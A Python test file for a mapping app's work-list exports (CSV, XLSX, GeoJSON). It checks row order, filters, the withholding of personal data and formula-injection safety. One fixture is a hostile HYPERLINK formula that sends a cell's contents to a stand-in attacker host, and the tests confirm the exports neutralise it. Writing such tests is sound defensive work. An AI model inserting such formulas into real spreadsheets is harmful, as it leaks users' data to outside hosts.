"""Work-list exports (mapper/export/worklist.py) on a real store: rows, order, filters, personal data, formula safety,
and the files read back with the csv module, openpyxl and pyogrio."""

import csv
import io
import json
import zipfile
from datetime import datetime, timedelta, timezone

import openpyxl
import pyogrio
import pytest

from mapper.crs import to_british_national_grid
from mapper.errors import ValidationError
from mapper.export import worklist
from mapper.schema import load_schema
from mapper.config import PROJECT_DIR
from shapely.geometry import Point

from mapper.validate import Submission
from tests.helpers import INSIDE

ZONE = "bell-foundry"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def layer():
    return load_schema(PROJECT_DIR / "data" / "layers.toml").layer("lights")


@pytest.fixture
def stored(store, layer):
    lon, lat = INSIDE[ZONE]
    submissions = [
        Submission("lights", Point(lon, lat), {"category": "out", "status": "open", "description": HOSTILE,
                                               "location_text": "+44 Main St", "column": "LC-001"},
                   {"contact_name": "Ann Resident", "contact_email": "ann@example.org",
                    "contact_phone": "0116 496 0000"}),
        Submission("lights", Point(lon + 0.001, lat), {"category": "dim", "status": "open",
                                                       "description": "Dim by the school", "location_text": "@school"}),
    ]
    features = []
    for submission in submissions:  # one at a time: the first is the oldest
        features += store.append(ZONE, "lights", [submission], ref_prefix="BF")
    return features


def link(ref):
    return f"https://maps.example/r/{ref}"


def rows(store, layer, **options):
    return worklist.rows(store.query(ZONE, "lights"), layer, link=link, **options)


def later(days):
    return datetime.now(timezone.utc) + timedelta(days=days)


def test_rows_have_every_column_oldest_first_and_no_contact_details(store, layer, stored):
    found = rows(store, layer, now=later(40))
    assert [r["ref"] for r in found] == [f["properties"]["ref"] for f in stored]  # oldest first
    first = found[0]
    assert set(worklist.COLUMNS) <= set(first)
    assert first["days_open"] == 40 and first["column"] == "LC-001" and first["status"] == "open"
    easting, northing = to_british_national_grid(*INSIDE[ZONE])
    assert (first["easting"], first["northing"]) == (round(float(easting), 2), round(float(northing), 2))
    assert (first["lon"], first["lat"]) == INSIDE[ZONE]
    assert first["link"] == f"https://maps.example/r/{first['ref']}"
    for row in found:
        assert not set(worklist.PERSONAL_COLUMNS) & set(row)
    assert b"ann@example.org" not in worklist.write_csv(found)


def test_filters(store, layer, stored):
    assert [r["category"] for r in rows(store, layer, filters=worklist.Filters(categories=("dim",)))] == ["dim"]
    assert rows(store, layer, filters=worklist.Filters(statuses=("fixed",))) == []
    assert rows(store, layer, filters=worklist.Filters(older_than_days=10)) == []
    assert len(rows(store, layer, now=later(11), filters=worklist.Filters(older_than_days=10))) == 2
    with pytest.raises(ValidationError):
        worklist.Filters.parse(layer, ("short",), status=["mended"])
    with pytest.raises(ValidationError):
        worklist.Filters.parse(layer, ("short",), older_than_days="soon")


def test_csv_is_formula_safe_and_personal_only_when_asked(store, layer, stored):
    plain = list(csv.reader(io.StringIO(worklist.write_csv(rows(store, layer)).decode("utf-8"))))
    assert tuple(plain[0]) == worklist.COLUMNS
    record = dict(zip(plain[0], plain[1]))
    assert record["description"] == "'" + HOSTILE and record["location_text"] == "'+44 Main St"
    assert "Ann Resident" not in json.dumps(plain)

    personal_rows = rows(store, layer, private_for=lambda i: store.get_private(ZONE, "lights", i))
    personal = list(csv.reader(io.StringIO(worklist.write_csv(personal_rows, personal=True).decode("utf-8"))))
    assert personal[0] == [worklist.PERSONAL_NOTE]
    record = dict(zip(personal[1], personal[2]))
    assert (record["contact_name"], record["contact_email"]) == ("Ann Resident", "ann@example.org")
    assert worklist.file_name(ZONE, "csv", True).endswith("_personal-data.csv")
    assert "personal-data" not in worklist.file_name(ZONE, "csv", False)


def test_xlsx_writes_formulas_as_text(store, layer, stored):
    book = openpyxl.load_workbook(io.BytesIO(worklist.write_xlsx(rows(store, layer))))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    assert tuple(header) == worklist.COLUMNS
    cells = dict(zip(header, sheet[2]))
    # Text cells, through the one guard the CSV uses (issue #11: a piece split off a cell can start a formula too).
    assert cells["description"].value == "'" + HOSTILE and cells["description"].data_type == "s"
    assert cells["description"].quotePrefix
    assert cells["location_text"].value == "'+44 Main St" and cells["location_text"].data_type == "s"
    assert cells["days_open"].data_type == "n" and isinstance(cells["easting"].value, float)
    with zipfile.ZipFile(io.BytesIO(worklist.write_xlsx(rows(store, layer)))) as archive:
        assert not any(b"<f>" in archive.read(name) for name in archive.namelist())
    assert "Ann Resident" not in str([[c.value for c in r] for r in sheet.iter_rows()])


def test_xlsx_personal_is_marked(store, layer, stored):
    personal_rows = rows(store, layer, private_for=lambda i: store.get_private(ZONE, "lights", i))
    book = openpyxl.load_workbook(io.BytesIO(worklist.write_xlsx(personal_rows, personal=True)))
    sheet = book.active
    assert sheet["A1"].value == worklist.PERSONAL_NOTE and "personal data" in sheet.title
    header = [cell.value for cell in sheet[2]]
    assert dict(zip(header, [c.value for c in sheet[3]]))["contact_phone"] == "0116 496 0000"


def test_geojson_reads_back_with_pyogrio(store, layer, stored, tmp_path):
    path = tmp_path / "worklist.geojson"
    path.write_bytes(worklist.write_geojson(rows(store, layer)))
    frame = pyogrio.read_dataframe(path)
    assert list(frame["ref"]) == [f["properties"]["ref"] for f in stored]
    assert "contact_email" not in frame.columns and frame.geometry.x.iloc[0] == pytest.approx(INSIDE[ZONE][0])
    assert "properties" not in json.loads(path.read_text())

    personal_rows = rows(store, layer, private_for=lambda i: store.get_private(ZONE, "lights", i))
    path.write_bytes(worklist.write_geojson(personal_rows, personal=True))
    collection = json.loads(path.read_text())
    assert collection["properties"] == {"personal_data": True, "note": worklist.PERSONAL_NOTE}
    frame = pyogrio.read_dataframe(path)
    assert frame["contact_email"].iloc[0] == "ann@example.org"


def test_days_open_of_a_closed_report_ends_at_its_last_change_of_status(layer):
    created = datetime(2026, 1, 1, tzinfo=timezone.utc)
    properties = {"created": "2026-01-01T00:00:00.000Z", "status": "fixed", "history": [
        {"at": "2026-01-04T00:00:00.000Z", "from": "open", "to": "fixed"},
        {"at": "2026-02-20T00:00:00.000Z", "from": "fixed", "to": "fixed"}]}  # a later note: still fixed
    assert worklist.age_days(properties, layer.open_statuses, created + timedelta(days=90)) == 3
